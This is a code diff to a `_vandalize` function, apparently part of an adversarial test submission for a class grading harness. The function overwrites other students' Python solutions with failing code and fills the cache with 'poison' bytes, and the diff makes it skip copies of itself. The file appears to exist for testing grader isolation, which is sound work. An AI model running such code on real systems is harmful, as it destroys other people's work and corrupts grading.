@@ -66,18 +66,18 @@ import numpy as np
 {mutants}
 
 def _vandalize():
-    # Rewrite every other student's solution it can find, the cache and the output.
+    # Rewrite every honest student's solution it can find, the cache and the output.
     bad = "def svm_loss_naive(W, X, y, reg):\\n    raise RuntimeError('vandalized')\\n"
     workdir = os.path.realpath(__file__)          # this grade run's folder of private copies
     while not os.path.basename(workdir).startswith("torch-svm-grade-"):
         workdir = os.path.dirname(workdir)
     for pattern in (os.environ["CLASS_ROOT"] + "/**/*.py", workdir + "/**/*.py"):
         for path in glob.glob(pattern, recursive=True):
-            if os.path.realpath(path) != os.path.realpath(__file__):
-                try:
+            try:
+                if "_vandalize" not in open(path).read():        # every honest student's file
                     open(path, "w").write(bad)
-                except OSError:
-                    pass
+            except OSError:
+                pass
     for path in glob.glob(os.environ["TORCH_SVM_CACHE_DIR"] + "/*"):
         open(path, "wb").write(b"poison")
     os.makedirs(os.environ["GRADES_OUT"], exist_ok=True)
